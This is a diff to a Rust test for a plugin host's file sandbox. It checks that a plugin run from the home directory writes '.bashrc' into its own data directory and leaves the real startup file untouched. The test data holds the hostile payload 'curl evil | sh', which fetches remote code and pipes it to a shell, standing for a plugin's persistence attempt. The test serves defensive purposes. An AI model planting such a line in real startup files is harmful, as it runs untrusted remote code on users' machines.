@@ -1,5 +1,6 @@
 //! What the host trusts (the code cache, the plugin directories, the config file)
-//! stays out of plugins' reach; no default root at home.
+//! stays out of plugins' reach; run from home without a root, no plugin reaches the
+//! startup files.
 
 use std::fs;
 use std::path::{Path, PathBuf};
@@ -178,7 +179,7 @@ fn a_root_inside_a_plugin_directory_is_a_usage_error() {
 }
 
 #[test]
-fn the_default_root_is_refused_at_home_and_above_it() {
+fn run_from_home_without_a_root_a_plugin_writes_its_own_directory_not_the_startup_files() {
     let base = temp_dir();
     let home = base.path().join("home/me");
     write(&home.join(".bashrc"), "# startup\n");
@@ -186,51 +187,31 @@ fn the_default_root_is_refused_at_home_and_above_it() {
     let from = |cwd: &Path, command: &mut Command| {
         run(command
             .env("HOME", &home)
+            .env_remove("XDG_DATA_HOME")
             .current_dir(cwd)
             .arg("--plugins")
             .arg(plugins.path()))
-    };
-    let refusal = |cwd: &Path, why: &str| {
-        format!(
-            "file access is off: no file root was given, and the default, the current \
-             directory {}, {why}; grant a directory with --root DIR (or [files] root in the \
-             config)",
-            cwd.canonicalize().expect("canonical").display()
-        )
     };
     let write_bashrc = json!({ "path": ".bashrc", "content": "curl evil | sh" }).to_string();
     let at_home = from(
         &home,
         toolcell().arg("call").arg("write").arg(&write_bashrc),
     );
-    let why = refusal(&home, "is your home directory");
-    at_home.assert_completed(&format!("nil|string|cannot write .bashrc: {why}"));
-    assert!(
-        at_home.stderr.contains(&why),
-        "one warning names --root{at_home}"
+    at_home.assert_completed("true|nil|nil");
+    assert!(at_home.stderr.is_empty(), "{at_home}");
+    assert_eq!(
+        fs::read_to_string(home.join(".local/share/toolcell/data/files/.bashrc"))
+            .expect("the plugin's own file"),
+        "curl evil | sh"
     );
-    assert_eq!(at_home.stderr.lines().count(), 1, "{at_home}");
-
-    let above = base.path().join("home");
-    let canonical_home = home.canonicalize().expect("canonical");
     from(
-        &above,
+        &base.path().join("home"),
         toolcell()
             .arg("call")
             .arg("read")
             .arg(json!({ "path": "me/.bashrc" }).to_string()),
     )
-    .assert_completed(&format!(
-        "nil|string|cannot read me/.bashrc: {}",
-        refusal(
-            &above,
-            &format!("contains your home directory {}", canonical_home.display())
-        )
-    ));
-    // `list` (and `check`, `serve`) load the same way.
-    let listed = from(&home, toolcell().arg("list"));
-    assert_eq!(listed.code, Some(0), "{listed}");
-    assert!(listed.stderr.contains(&why), "{listed}");
+    .assert_completed("nil|string|cannot read me/.bashrc: no such file or directory");
     assert_eq!(
         fs::read_to_string(home.join(".bashrc")).expect("read"),
         "# startup\n"
